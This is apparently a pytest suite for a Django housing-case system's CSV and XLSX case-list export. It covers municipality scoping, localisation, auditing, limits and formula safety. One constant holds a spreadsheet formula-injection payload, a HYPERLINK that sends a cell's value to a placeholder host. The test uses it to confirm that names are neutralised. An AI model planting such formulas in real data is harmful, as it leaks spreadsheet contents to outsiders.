"""The case list as CSV and XLSX: every case the list's filters, search and sort give,
of the actor's municipality only, in the user's language, formula-safe, audited."""

import csv
import io

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from boligtorg.cases.factories import ApplicationFactory, HouseholdFactory, PersonFactory
from boligtorg.core.models import AuditAction, AuditEvent

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _case(municipality, caseworker=None, last_name="Hansen", **fields):
    person = PersonFactory(municipality=municipality, first_name="Ole", last_name=last_name)
    return ApplicationFactory(
        municipality=municipality,
        household=HouseholdFactory(municipality=municipality, main=person),
        caseworker=caseworker,
        **fields,
    )


def test_the_export_holds_every_filtered_case_in_the_lists_order_not_one_page(
    client, kari, trondheim
):
    submitted = [_case(trondheim, kari, status="submitted") for _ in range(30)]
    _case(trondheim, kari, status="decided")
    client.force_login(kari)
    response = client.get(
        reverse("cases:export"), {"status": "submitted", "sort": "number", "format": "csv"}
    )
    assert response.status_code == 200
    rows = _csv_rows(response)
    assert [row[0] for row in rows[1:]] == sorted(case.number for case in submitted)


def test_sven_in_skanderborg_exports_none_of_trondheims_cases(client, sven, skanderborg, ole_case):
    own = _case(skanderborg, sven, last_name="Jensen")
    client.force_login(sven)
    for file_format, read in (("csv", _csv_rows), ("xlsx", _xlsx_rows)):
        rows = read(client.get(reverse("cases:export"), {"format": file_format}))
        assert [row[0] for row in rows[1:]] == [own.number]


def test_a_bokmal_user_gets_bokmal_headings_labels_and_file_name(client, kari, ole_case):
    client.force_login(kari)
    response = client.get(reverse("cases:export"), {"format": "xlsx"})
    header, row = _xlsx_rows(response)
    assert header == ["Saksnummer", "Søker", "Status", "Situasjon", "Mottatt", "Saksbehandler"]
    assert row[2:4] == ["Sendt inn", "Uten bolig"]
    assert row[5] == "Kari Nordmann"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert "saker-" in disposition and disposition.endswith('.xlsx"')


def test_the_export_is_one_audit_event_with_the_query_and_every_case_it_holds(
    client, kari, trondheim
):
    cases = [_case(trondheim, kari, status="submitted") for _ in range(3)]
    client.force_login(kari)
    client.get(reverse("cases:export"), {"status": "submitted", "sort": "number"})
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert (event.actor, event.municipality, event.object_type, event.object_repr) == (
        kari,
        trondheim,
        "cases.application",
        "case list",
    )
    assert event.changes["query"] == {"status": "submitted", "sort": "number", "format": "csv"}
    assert event.changes["ids"] == [str(case.pk) for case in cases]
    assert event.changes["count"] == 3


def test_an_applicant_whose_name_is_a_formula_is_quoted_in_csv_and_text_in_xlsx(
    client, kari, trondheim
):
    person = PersonFactory(municipality=trondheim, first_name="Ole", last_name=ATTACK)
    ApplicationFactory(
        municipality=trondheim,
        household=HouseholdFactory(municipality=trondheim, main=person),
        caseworker=kari,
    )
    client.force_login(kari)
    csv_row = _csv_rows(client.get(reverse("cases:export"), {"format": "csv"}))[1]
    assert csv_row[1] == f"'{ATTACK}, Ole"
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("cases:export"), {"format": "xlsx"}).content)
    ).active
    cell = sheet.cell(row=2, column=2)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value == f"{ATTACK}, Ole"


def test_a_search_kept_behind_a_session_key_is_exported_by_its_key(
    client, kari, ole_case, trondheim
):
    _case(trondheim, kari, last_name="Berg")
    client.force_login(kari)
    location = client.post(reverse("cases:list"), {"q": ole_case.applicant.national_id})["Location"]
    query = location.split("?", 1)[1]
    rows = _csv_rows(client.get(f"{reverse('cases:export')}?{query}&format=csv"))
    assert [row[0] for row in rows[1:]] == [ole_case.number]


def test_the_list_links_to_both_exports_with_its_filters_and_without_its_page(
    english, kari, ole_case
):
    english.force_login(kari)
    page = english.get(reverse("cases:list"), {"status": "submitted", "page": "1"})
    html = page.content.decode()
    assert f"{reverse('cases:export')}?status=submitted&amp;format=csv" in html
    assert f"{reverse('cases:export')}?status=submitted&amp;format=xlsx" in html


@override_settings(BOLIGTORG_EXPORT_MAX_ROWS=2)
def test_over_the_limit_the_user_is_sent_back_to_the_list_with_a_message(english, kari, trondheim):
    for _ in range(3):
        _case(trondheim, kari)
    english.force_login(kari)
    response = english.get(
        reverse("cases:export"), {"sort": "number", "format": "xlsx"}, follow=True
    )
    assert response.redirect_chain[0][0] == f"{reverse('cases:list')}?sort=number"
    assert "More than 2 rows match" in response.content.decode()
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()


def test_an_unknown_format_is_not_found(client, kari):
    client.force_login(kari)
    assert client.get(reverse("cases:export"), {"format": "pdf"}).status_code == 404


def test_roles_that_may_not_read_the_case_list_may_not_export_it(client, tone):
    client.force_login(tone)
    assert client.get(reverse("cases:export")).status_code == 403


def test_the_export_reads_the_cases_in_one_query(
    client, kari, trondheim, django_assert_num_queries
):
    for _ in range(5):
        _case(trondheim, kari)
    client.force_login(kari)
    # session, user, memberships with roles; the filter form's target groups and
    # caseworkers (as on the list); the cases; the audit event
    with django_assert_num_queries(7):
        client.get(reverse("cases:export"), {"format": "csv"})
